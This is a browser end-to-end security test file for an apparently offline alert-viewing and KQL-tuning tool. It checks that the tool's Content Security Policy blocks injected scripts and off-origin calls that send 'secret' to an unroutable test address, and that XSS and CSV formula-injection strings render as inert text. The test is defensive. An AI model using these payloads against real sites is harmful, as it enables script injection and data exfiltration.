/**
 * The security promises of the built app, in Chromium with the production CSP header:
 *  (a) a page that tries what an injected payload would (inline script, inline handler, eval,
 *      new Function, string timers, off-origin script / fetch / XHR / WebSocket / beacon / image /
 *      frame / form, a blob worker phoning home) is refused every time, before any traffic;
 *  (b) no network request at all after load, with data loaded, a detection run, a hit opened,
 *      the rule view shown and an export saved;
 *  (c) hostile strings in device names, file names and command lines (HTML, <script>, SVG with
 *      handlers, bidi overrides, NUL, 100 kB, invalid UTF-8, lone surrogates) render as literal
 *      text everywhere (table, tooltips, hit detail, tree, node fields, rule view) and the CSV
 *      export neutralises formulas (raw only when asked).
 * `npm test` builds first; run `npx vite build` before running this file alone.
 */
import { readFileSync } from 'node:fs';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  isNetwork,
  openApp,
  serveAndLaunch,
  skipBrowser,
  watchedPage,
  type Served,
  type Watched,
} from './browser-harness';
import {
  CHAINS,
  EXPECTED_ALERTS,
  FORMULAS,
  HTML,
  LONG_CMD,
  BIDI,
  hostileFiles,
  SURROGATE_CHAIN,
} from '../security/hostile-data';
import { join } from 'node:path';

const skip = skipBrowser('e2e security tests');
const OFF_ORIGIN = 'http://203.0.113.1'; // TEST-NET-3: never routable, and the route net aborts it anyway

/**
 * Finds anything that is not inert text: elements a payload would inject (img, iframe, object,
 * embed, base, inline script), event-handler attributes, script URLs, and payload text in any
 * attribute that is not plain text to the browser (title, aria-*, data-*, value are inert).
 */
function injectedNodes(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const bad: string[] = [];
    const textAttr = /^(title|aria-.*|data-.*|value|alt|placeholder)$/i;
    for (const el of Array.from(document.querySelectorAll('*'))) {
      const tag = el.tagName.toLowerCase();
      if (['img', 'iframe', 'object', 'embed', 'frame', 'base'].includes(tag)) bad.push(`<${tag}> element`);
      const src = tag === 'script' ? (el as HTMLScriptElement).src : '';
      if (tag === 'script' && !src) bad.push('inline <script>');
      if (src && new URL(src).origin !== location.origin) bad.push(`off-origin script ${src}`);
      for (const a of Array.from(el.attributes)) {
        if (/^on/i.test(a.name)) bad.push(`<${tag} ${a.name}>`);
        if (/^\s*(javascript|vbscript):/i.test(a.value) && /href|src|action/i.test(a.name))
          bad.push(`<${tag} ${a.name}=${a.value.slice(0, 20)}>`);
        if (!textAttr.test(a.name) && a.value.includes('__pwned')) bad.push(`<${tag} ${a.name}> carries a payload`);
      }
    }
    return bad;
  });
}

async function pwned(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null);
}

describe.skipIf(skip)('security in Chromium', () => {
  let s: Served;

  beforeAll(async () => {
    s = await serveAndLaunch();
  });

  afterAll(async () => {
    await s?.browser.close();
    await s?.server.close();
  });

  it('(a) refuses everything an injected payload would try, before any traffic', async () => {
    const w = await watchedPage(s.browser);
    try {
      await openApp(w.page, s.origin);
      const before = w.requests.length;
      // Runs in the page (as page script, CSP-bound): every attempt must be refused.
      const outcome = await w.page.evaluate(async (target: string) => {
        const win = window as unknown as { __pwned?: string };
        const out: Record<string, string> = {};
        const wait = (ms: number) => new Promise<void>((r) => window.setTimeout(r, ms));
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
        /** 'refused' once the policy reported a violation of `directive` (for APIs that do not say). */
        const reported = async (directive: string, before: number): Promise<string> => {
          for (let t = 0; t < 40; t++) {
            if (seen.slice(before).includes(directive)) return 'refused';
            await wait(50);
          }
          return 'not reported';
        };
        const settle = (p: Promise<string>): Promise<string> => Promise.race([p, wait(4000).then(() => 'no answer')]);

        const inline = document.createElement('script');
        inline.textContent = "window.__pwned = 'inline script'";
        document.body.append(inline);
        await wait(50);
        out.inlineScript = win.__pwned === 'inline script' ? 'ran' : 'refused';
        inline.remove();

        const handler = document.createElement('div');
        handler.setAttribute('onclick', "window.__pwned = 'inline handler'");
        document.body.append(handler);
        handler.click();
        out.inlineHandler = win.__pwned === 'inline handler' ? 'ran' : 'refused';
        handler.remove();

        const evalFn = Reflect.get(globalThis, 'eval') as (code: string) => unknown;
        try {
          evalFn("window.__pwned = 'eval'");
          out.eval = 'ran';
        } catch (e) {
          out.eval = `refused: ${(e as Error).name}`;
        }
        try {
          (Reflect.construct(Function, ["window.__pwned = 'new Function'"]) as () => void)();
          out.newFunction = 'ran';
        } catch (e) {
          out.newFunction = `refused: ${(e as Error).name}`;
        }
        (window.setTimeout as unknown as (code: string, ms: number) => number)("window.__pwned = 'string timer'", 0);
        await wait(50);
        out.stringTimer = win.__pwned === 'string timer' ? 'ran' : 'refused';

        out.offOriginScript = await settle(
          new Promise((r) => {
            const sc = document.createElement('script');
            sc.src = `${target}/x.js`;
            sc.onload = () => r('loaded');
            sc.onerror = () => r('refused');
            document.head.append(sc);
          }),
        );
        out.fetch = await settle(
          fetch(`${target}/fetch`).then(
            () => 'sent',
            (e: Error) => `refused: ${e.name}`,
          ),
        );
        out.fetchNoCors = await settle(
          fetch(`${target}/nc`, { mode: 'no-cors' }).then(
            () => 'sent',
            (e: Error) => `refused: ${e.name}`,
          ),
        );
        out.xhr = await settle(
          new Promise((r) => {
            const x = new XMLHttpRequest();
            x.onload = () => r('sent');
            x.onerror = () => r('refused');
            try {
              x.open('POST', `${target}/xhr`);
              x.send('secret');
            } catch (e) {
              r(`refused: ${(e as Error).name}`);
            }
          }),
        );
        out.webSocket = await settle(
          new Promise((r) => {
            try {
              const ws = new WebSocket(`${target.replace('http', 'ws')}/ws`);
              ws.onopen = () => r('open');
              ws.onerror = () => r('refused');
            } catch (e) {
              r(`refused: ${(e as Error).name}`);
            }
          }),
        );
        // sendBeacon queues without saying; the policy's report is the refusal.
        const beforeBeacon = seen.length;
        let queued: boolean;
        try {
          queued = navigator.sendBeacon(`${target}/beacon`, 'secret');
        } catch {
          queued = false;
        }
        out.sendBeacon = queued ? await reported('connect-src', beforeBeacon) : 'refused';
        out.imageBeacon = await settle(
          new Promise((r) => {
            const im = new Image();
            im.onload = () => r('loaded');
            im.onerror = () => r('refused');
            im.src = `${target}/pixel.gif?d=secret`;
          }),
        );
        // A blocked frame still fires load (with an error page); the policy's report is the refusal.
        const beforeFrame = seen.length;
        const frame = document.createElement('iframe');
        frame.src = `${target}/frame`;
        document.body.append(frame);
        out.iframe = await reported('frame-src', beforeFrame);
        frame.remove();
        const beforeForm = seen.length;
        const sink = document.createElement('iframe');
        sink.name = 'form-sink';
        document.body.append(sink);
        const form = document.createElement('form');
        form.action = `${target}/form`;
        form.method = 'post';
        form.target = 'form-sink';
        document.body.append(form);
        form.submit();
        out.form = await reported('form-action', beforeForm);
        form.remove();
        sink.remove();
        // A blob worker is allowed (worker-src blob:) but inherits the page's policy.
        out.blobWorker = await settle(
          new Promise((r) => {
            const code = `
              let ev = 'ran';
              try { (0, self['ev' + 'al'])('1'); } catch (e) { ev = 'refused'; }
              fetch('${target}/worker').then(() => postMessage('fetch sent, eval ' + ev), () => postMessage('refused, eval ' + ev));`;
            const wk = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
            wk.onmessage = (e: MessageEvent<string>) => r(e.data);
            wk.onerror = () => r('worker error');
          }),
        );
        await wait(200);
        out.flag = win.__pwned ?? 'unset';
        return out;
      }, OFF_ORIGIN);

      const refused = Object.entries(outcome).filter(([k, v]) => k !== 'flag' && v.startsWith('refused'));
      console.log(`CSP breaker: ${refused.length}/${Object.keys(outcome).length - 1} attempts refused`, outcome);
      expect(outcome).toEqual({
        inlineScript: 'refused',
        inlineHandler: 'refused',
        eval: 'refused: EvalError',
        newFunction: 'refused: EvalError',
        stringTimer: 'refused',
        offOriginScript: 'refused',
        fetch: 'refused: TypeError',
        fetchNoCors: 'refused: TypeError',
        xhr: 'refused',
        webSocket: expect.stringMatching(/^refused/) as unknown as string,
        sendBeacon: 'refused',
        imageBeacon: 'refused',
        iframe: 'refused',
        form: 'refused',
        blobWorker: 'refused, eval refused',
        flag: 'unset',
      });
      // The policy reported each kind of attempt.
      const violations = await w.csp();
      const directives = new Set(violations.map((v) => v.split(' ')[0]));
      for (const d of [
        'script-src-elem',
        'script-src-attr',
        'script-src',
        'connect-src',
        'img-src',
        'frame-src',
        'form-action',
      ])
        expect(directives, `a ${d} violation (got ${[...directives].join(', ')})`).toContain(d);
      // Nothing reached the network layer: the CSP blocked it before the safety net had to.
      expect(w.aborted, 'requests the route safety net had to abort').toEqual([]);
      // Chromium reports the attempts it refused as requests that failed with a CSP error.
      const offOrigin = w.requests.slice(before).filter((r) => isNetwork(r.url) && new URL(r.url).origin !== s.origin);
      for (const r of offOrigin) expect(w.failures.get(r.url), `${r.method} ${r.url}`).toMatch(/csp/i);
      console.log(
        `CSP breaker: ${offOrigin.length} off-origin requests attempted, all blocked by CSP in the renderer, ${w.aborted.length} reached the network layer`,
      );
      expect(w.dialogs).toEqual([]);
    } finally {
      await w.context.close();
    }
  });

  /** Loads the hostile files through the file input and waits for the alerts. */
  async function loadHostile(w: Watched): Promise<Record<string, Buffer>> {
    const files = hostileFiles() as unknown as Record<string, Buffer>;
    await w.page.getByLabel('Load event files').setInputFiles(
      Object.entries(files).map(([name, buffer]) => ({
        name,
        mimeType: name.endsWith('.json') ? 'application/json' : 'text/csv',
        buffer,
      })),
    );
    await w.page.getByRole('heading', { name: `${EXPECTED_ALERTS} alerts` }).waitFor({ timeout: 30_000 });
    return files;
  }

  async function exportCsv(page: Page): Promise<string[][]> {
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export alerts CSV' }).click(),
    ]);
    const bytes = readFileSync((await download.path())!);
    return parseCsv(bytes.subarray(3).toString('utf8'), { relaxColumnCount: false }) as string[][];
  }

  it('(b)+(c) hostile strings render inert and literal; exports neutralise formulas; zero requests after load', async () => {
    const w = await watchedPage(s.browser);
    try {
      // Hostile tuning state in the URL hash (untrusted): allow-list entries and a note with HTML.
      const state = {
        version: 1,
        allowList: { entries: ['dllhost.exe', HTML.img, HTML.script], active: ['dllhost.exe', HTML.img] },
        notes: { x: HTML.svg },
      };
      await openApp(w.page, s.origin, `#state=${encodeURIComponent(JSON.stringify(state))}`);
      const afterLoad = w.requests.length;
      await loadHostile(w);
      const table = w.page.getByRole('table', { name: 'Alerts' });

      // Ingest accounting in the UI: the NUL rows are rejected and counted.
      const report = w.page.getByRole('table', { name: 'Loaded files' });
      for (const f of ['DeviceNetworkEvents.csv', 'DeviceProcessEvents.csv']) {
        await expect
          .poll(() =>
            report
              .getByRole('row', { name: new RegExp(f.replace('.', '\\.')) })
              .first()
              .locator('td')
              .nth(3)
              .textContent(),
          )
          .toBe('1');
      }
      await expect.poll(() => report.getByText(/NUL|nul-char/).count()).toBeGreaterThan(0);

      // The table: every hostile device name and DCOM command line as literal text, in text and tooltips.
      const tableText = (await table.textContent()) ?? '';
      for (const c of CHAINS) {
        expect(
          tableText.includes(c.deviceName),
          `device name ${JSON.stringify(c.deviceName.slice(0, 40))} shown literally`,
        ).toBe(true);
        expect(
          tableText.includes(c.dcomCmd),
          `DCOM command line ${JSON.stringify(c.dcomCmd.slice(0, 40))} shown literally`,
        ).toBe(true);
      }
      expect(tableText).toContain(BIDI);
      expect(tableText).toContain(LONG_CMD.slice(0, 2000));
      expect(tableText).toContain('bad-utf8:\ufffd');
      expect(tableText).toContain(SURROGATE_CHAIN.dcomCmd.replace(/[\ud800-\udfff]/g, '').slice(-30));
      expect(await injectedNodes(w.page)).toEqual([]);

      // Every alert opened: hit detail, timeline, process tree, node fields, why it fired.
      const rows = table.locator('tbody tr.alert-row');
      const n = await rows.count();
      expect(n).toBe(EXPECTED_ALERTS);
      for (let i = 0; i < n; i++) {
        await rows.nth(i).click();
        const dialog = w.page.getByRole('dialog').first();
        await dialog.waitFor();
        const tree = dialog.getByRole('group', { name: 'Process tree' });
        await tree.waitFor();
        const nodes = tree.locator('.tree-node[role="button"], .tree-node [role="button"], [role="button"].tree-node');
        const buttons = (await nodes.count()) > 0 ? nodes : tree.getByRole('button');
        const count = await buttons.count();
        for (let b = 0; b < count; b++) {
          await buttons.nth(b).click();
          await dialog.locator('.node-fields').first().waitFor();
        }
        const text = (await dialog.textContent()) ?? '';
        const svgTitles = await dialog.locator('title').allTextContents();
        const chain = [...CHAINS, SURROGATE_CHAIN].find((c) => text.includes(c.deviceId));
        expect(chain, `dialog ${i} names its device`).toBeDefined();
        if (chain && chain !== SURROGATE_CHAIN) {
          expect(text).toContain(chain.deviceName);
          expect(text).toContain(chain.dcomCmd.replace(/^[\t\r]/, ''));
          if (!chain.childCmd.includes('bad-utf8')) expect(svgTitles.join('\n')).toContain(chain.childCmd);
          expect(svgTitles.join('\n')).toContain(chain.dcomFile);
        }
        expect(await injectedNodes(w.page), `injected nodes in alert ${i}`).toEqual([]);
        await w.page.keyboard.press('Escape');
        await expect.poll(() => w.page.getByRole('dialog').count()).toBe(0);
      }

      // Fan-out and rule view (the hostile allow-list entries from the hash end up in the tuned KQL).
      await w.page.getByRole('tab', { name: 'Fan-out' }).click();
      await w.page.getByRole('region', { name: 'Fan-out by remote IP' }).waitFor();
      expect(await injectedNodes(w.page)).toEqual([]);
      await w.page.getByRole('tab', { name: 'Rule' }).click();
      const kql = w.page.getByLabel('Tuned KQL text');
      await expect.poll(() => kql.textContent()).toContain('let allowListedExecs = dynamic(');
      expect(await kql.textContent()).toContain(`"<img src=x onerror=\\"window.__pwned='img'\\">"`);
      expect(await w.page.getByText(HTML.script, { exact: true }).count()).toBeGreaterThan(0);
      expect(await injectedNodes(w.page)).toEqual([]);
      await w.page.getByRole('tab', { name: 'Alerts', exact: true }).click();

      // Exports: formulas neutralised by default, raw on request.
      const [head, ...body] = await exportCsv(w.page);
      const cmd = head!.indexOf('DCOMCmdLine');
      const dev = head!.indexOf('DeviceName');
      const cmds = body.map((r) => r[cmd]!);
      for (const c of CHAINS) expect(cmds).toContain(`'${c.dcomCmd}`);
      for (const r of body)
        for (const cell of r)
          expect(cell, `exported cell ${JSON.stringify(cell.slice(0, 30))}`).not.toMatch(/^[=+\-@\t\r]/);
      expect(body.map((r) => r[dev])).toContain(`'${FORMULAS[3]} ws3`);
      await w.page.getByRole('checkbox', { name: 'Raw values' }).check();
      const [, ...raw] = await exportCsv(w.page);
      const rawCmds = raw.map((r) => r[cmd]!);
      for (const c of CHAINS) expect(rawCmds).toContain(c.dcomCmd);

      expect(await pwned(w.page), 'a payload ran').toBeNull();
      expect(w.dialogs, 'dialogs opened').toEqual([]);
      expect(await w.csp(), 'CSP violations (a payload tried to run)').toEqual([]);
      expect(w.consoleErrors).toEqual([]);
      expect(w.aborted).toEqual([]);
      const network = w.requests.slice(afterLoad).filter((r) => isNetwork(r.url));
      console.log(
        `requests after load: ${network.length} (hostile data loaded, ${EXPECTED_ALERTS} alerts opened, rule view, 2 exports)`,
      );
      expect(network).toEqual([]);
    } finally {
      await w.context.close();
    }
  });

  it('(b) zero network requests after load with the sample data loaded and detection run', async () => {
    const w = await watchedPage(s.browser);
    try {
      await openApp(w.page, s.origin);
      const afterLoad = w.requests.length;
      const samples = join(__dirname, '../../public/samples');
      await w.page
        .getByLabel('Load event files')
        .setInputFiles(['DeviceNetworkEvents.csv', 'DeviceProcessEvents.csv'].map((f) => join(samples, f)));
      await w.page.getByRole('heading', { name: /^\d+ alerts?$/ }).waitFor({ timeout: 30_000 });
      await w.page.getByRole('table', { name: 'Alerts' }).locator('tbody tr.alert-row').first().click();
      await w.page.getByRole('dialog').first().getByRole('group', { name: 'Process tree' }).waitFor();
      await w.page.keyboard.press('Escape');
      await w.page.getByRole('checkbox', { name: 'dllhost.exe' }).uncheck();
      await w.page.getByRole('tab', { name: 'Rule' }).click();
      await w.page.getByLabel('Tuned KQL text').waitFor();
      await w.page.getByRole('tab', { name: 'Alerts', exact: true }).click();
      await exportCsv(w.page);
      const network = w.requests.slice(afterLoad).filter((r) => isNetwork(r.url));
      console.log(
        `requests after load: ${network.length} (samples loaded, detection + re-run, hit detail, rule view, export)`,
      );
      expect(network).toEqual([]);
      expect(w.aborted).toEqual([]);
      expect(await w.csp()).toEqual([]);
      expect(w.consoleErrors).toEqual([]);
    } finally {
      await w.context.close();
    }
  });
});
